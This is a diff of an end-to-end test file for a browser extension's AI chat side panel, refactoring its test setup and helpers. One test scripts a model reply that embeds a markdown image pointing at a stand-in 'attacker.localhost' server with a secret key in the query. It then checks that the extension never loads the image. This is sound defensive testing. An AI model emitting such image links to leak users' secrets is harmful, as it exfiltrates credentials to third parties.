@@ -1,37 +1,26 @@
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { beforeEach, describe, expect, it } from 'vitest';
 import type { Page } from 'playwright-core';
 import { startFixtureServer, type FixtureServer } from '../fixtures/mcp-fixture-server';
 import { startPaginatedServer } from '../fixtures/paginated-server';
 import { startScriptedOpenAI, type ScriptedOpenAI } from '../fixtures/scripted-openai';
-import { launchExtension, type ExtensionSession } from './harness';
+import { chooseScriptedModel, saveModelSettings } from './chat-setup';
+import { closeAfterTest, requestFrom, freshExtensionPerTest } from './harness';
+import { addEnabledServer } from './server-setup';
 
-let session: ExtensionSession;
+const session = freshExtensionPerTest();
 let model: ScriptedOpenAI;
 let fixture: FixtureServer;
 let page: Page;
 let serverId: string;
 
-type Envelope<T> = { ok: true; result: T } | { ok: false; error: { message: string } };
+const request = <T>(type: string, payload?: unknown) =>
+  requestFrom<T>(session, page, type, payload);
 
-async function request<T>(type: string, payload?: unknown): Promise<T> {
-  const response = (await session.send(page, type, payload)) as Envelope<T>;
-  if (!response.ok) throw new Error(response.error.message);
-  return response.result;
-}
-
-/** Writes model settings the way the Settings form saves them. */
-async function useModel(settings: Record<string, unknown>) {
-  await page.evaluate(
-    (value) =>
-      (
-        globalThis as unknown as {
-          chrome: { storage: { local: { set(items: unknown): Promise<void> } } };
-        }
-      ).chrome.storage.local.set({ 'chat.model': value }),
-    settings,
-  );
+/** Saves model settings as the Settings form does, and reloads the panel to use them. */
+async function switchModel(settings: Record<string, unknown>) {
+  await saveModelSettings(page, settings);
   await page.reload();
 }
 
@@ -41,31 +30,17 @@ async function ask(text: string) {
   await page.getByRole('button', { name: 'Send' }).click();
 }
 
-beforeAll(async () => {
-  [session, model, fixture] = await Promise.all([
-    launchExtension(),
-    startScriptedOpenAI(),
-    startFixtureServer(),
+/** Every test: the scripted model and the fixture server, added and switched on. */
+beforeEach(async () => {
+  [model, fixture] = await Promise.all([
+    startScriptedOpenAI().then(closeAfterTest),
+    startFixtureServer().then(closeAfterTest),
   ]);
   page = await session.openSidePanel();
-  const { server } = await request<{ server: { id: string } }>('mcp/servers/add', {
-    name: 'Fixture',
-    url: fixture.mcpUrl,
-  });
-  serverId = server.id;
-  await request(`mcp/${serverId}/enable`);
+  serverId = await addEnabledServer(session, page, { name: 'Fixture', url: fixture.mcpUrl });
 });
 
-afterEach(() => {
-  expect(session.errors).toEqual([]);
-});
-
-afterAll(async () => {
-  await session?.close();
-  await Promise.all([model?.close(), fixture?.close()]);
-});
-
-describe('chat in the side panel', () => {
+describe('chat on first run', () => {
   it('leads a new user through setup, asks before running a tool, and answers with its result', async () => {
     await page.getByRole('heading', { name: 'Welcome to Patchbay' }).waitFor();
     await page.getByLabel('OpenAI-compatible (Ollama, LM Studio, vLLM, OpenRouter…)').check();
@@ -116,12 +91,22 @@ describe('chat in the side panel', () => {
     );
     expect(JSON.stringify(chatRequests[1]!.body)).toContain('with 0 attendee(s)');
   });
+});
+
+describe('chat with a model chosen', () => {
+  beforeEach(async () => {
+    await chooseScriptedModel(page, model.baseUrl);
+    await page.reload();
+  });
 
   it('restores the last conversation when the panel is reopened', async () => {
+    model.script({ type: 'text', text: 'Standup is at **nine** tomorrow.' });
+    await ask('When is standup?');
+    await page.getByText('tomorrow.').waitFor();
     await page.reload();
-    await page.getByText('is on the calendar for 09:00.').waitFor();
-    await page.getByRole('button', { name: /Put a standup on my calendar/ }).click();
-    await page.getByRole('list', { name: 'Chats' }).waitFor();
+    await page.getByText('tomorrow.').waitFor();
+    await page.getByRole('button', { name: /When is standup\?/ }).click();
+    await page.getByRole('list', { name: 'Chats' }).getByText('When is standup?').waitFor();
   });
 
   it('edits and resends a question, regenerates an answer, renames and deletes chats', async () => {
@@ -205,10 +190,10 @@ describe('chat in the side panel', () => {
   it('explains a rejected API key inline, with a retry', async () => {
     model.requiredApiKey = 'sk-right';
     // The browser itself logs the 401 response.
-    session.expectedErrors.push(
+    session.expectConsoleError(
       /Failed to load resource: the server responded with a status of 401/,
     );
-    await useModel({
+    await switchModel({
       provider: 'compatible',
       baseUrl: model.baseUrl,
       model: 'scripted-model',
@@ -221,18 +206,15 @@ describe('chat in the side panel', () => {
       .waitFor();
     await expect(error.getByRole('button', { name: 'Retry' }).isVisible()).resolves.toBe(true);
     await session.screenshot(page, 'chat-bad-key');
-    model.requiredApiKey = undefined;
-    session.expectedErrors.length = 0;
   });
 
   it('talks to OpenAI through the Responses API', async () => {
-    await useModel({
+    await switchModel({
       provider: 'openai',
       baseUrl: model.baseUrl,
       model: 'scripted-model',
       apiKey: 'sk-test',
     });
-    await request(`mcp/${serverId}/tools/disabled/set`, { names: [] });
     model.script(
       { type: 'tool-call', toolName: `${serverId}__get_weather`, input: { city: 'Oslo' } },
       { type: 'text', text: 'It is 21.5 °C and sunny in Oslo.' },
@@ -249,26 +231,16 @@ describe('chat in the side panel', () => {
   });
 
   it('refuses to send 130 tools and says how to narrow them', async () => {
-    const big = await startPaginatedServer({ toolCount: 130, pageSize: 100 });
-    try {
-      const { server } = await request<{ server: { id: string } }>('mcp/servers/add', {
-        name: 'Huge',
-        url: big.url,
-      });
-      await request(`mcp/${server.id}/enable`);
-      await page.reload();
-      const before = model.requests.length;
-      await page.getByText('tools are switched on, but the model accepts at most 128').waitFor();
-      await expect(page.getByRole('combobox', { name: 'Message' }).isDisabled()).resolves.toBe(
-        true,
-      );
-      await session.screenshot(page, 'chat-tool-budget');
-      expect(model.requests.length).toBe(before);
-      await request(`mcp/${server.id}/disable`);
-      await page.getByRole('combobox', { name: 'Message' }).and(page.locator(':enabled')).waitFor();
-    } finally {
-      await big.close();
-    }
+    const big = closeAfterTest(await startPaginatedServer({ toolCount: 130, pageSize: 100 }));
+    const hugeId = await addEnabledServer(session, page, { name: 'Huge', url: big.url });
+    await page.reload();
+    const before = model.requests.length;
+    await page.getByText('tools are switched on, but the model accepts at most 128').waitFor();
+    await expect(page.getByRole('combobox', { name: 'Message' }).isDisabled()).resolves.toBe(true);
+    await session.screenshot(page, 'chat-tool-budget');
+    expect(model.requests.length).toBe(before);
+    await request(`mcp/${hugeId}/disable`);
+    await page.getByRole('combobox', { name: 'Message' }).and(page.locator(':enabled')).waitFor();
   });
 
   it('loads nothing a model answer points at: a remote image stays a link until clicked', async () => {
@@ -278,22 +250,23 @@ describe('chat in the side panel', () => {
       outgoing.writeHead(200, { 'content-type': 'image/png' }).end();
     });
     await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+    closeAfterTest({
+      close: () => {
+        attacker.closeAllConnections();
+        return new Promise<void>((resolve) => attacker.close(() => resolve()));
+      },
+    });
     const { port } = attacker.address() as AddressInfo;
     const leak = `http://attacker.localhost:${port}/pixel.png?d=sk-secret`;
-    try {
-      model.script({ type: 'text', text: `Here is your chart: ![chart](${leak}) Enjoy.` });
-      await ask('Draw my chart');
-      await page.getByText('Enjoy.').waitFor();
-      const link = page.locator('.markdown a.image-link', { hasText: '[chart]' });
-      await expect(link.getAttribute('href')).resolves.toBe(leak);
-      await expect(page.locator(`img[src*="attacker.localhost"]`).count()).resolves.toBe(0);
-      // Give the page a full round trip to the worker and back before concluding nothing came.
-      await request('mcp/servers/get');
-      expect(seen).toEqual([]);
-    } finally {
-      attacker.closeAllConnections();
-      await new Promise<void>((resolve) => attacker.close(() => resolve()));
-    }
+    model.script({ type: 'text', text: `Here is your chart: ![chart](${leak}) Enjoy.` });
+    await ask('Draw my chart');
+    await page.getByText('Enjoy.').waitFor();
+    const link = page.locator('.markdown a.image-link', { hasText: '[chart]' });
+    await expect(link.getAttribute('href')).resolves.toBe(leak);
+    await expect(page.locator(`img[src*="attacker.localhost"]`).count()).resolves.toBe(0);
+    // Give the page a full round trip to the worker and back before concluding nothing came.
+    await request('mcp/servers/get');
+    expect(seen).toEqual([]);
   });
 
   it('says so when a chat cannot be saved, instead of losing it silently', async () => {
@@ -302,16 +275,12 @@ describe('chat in the side panel', () => {
         throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
       };
     });
-    try {
-      model.script({ type: 'text', text: 'Noted, but not kept.' });
-      await ask('Remember this');
-      await page.getByText('Noted, but not kept.').waitFor();
-      await page
-        .getByRole('alert')
-        .getByText(/This chat could not be saved, so it will be gone when the panel closes/)
-        .waitFor();
-    } finally {
-      await page.reload(); // restores the real IndexedDB for whatever runs next
-    }
+    model.script({ type: 'text', text: 'Noted, but not kept.' });
+    await ask('Remember this');
+    await page.getByText('Noted, but not kept.').waitFor();
+    await page
+      .getByRole('alert')
+      .getByText(/This chat could not be saved, so it will be gone when the panel closes/)
+      .waitFor();
   });
 });
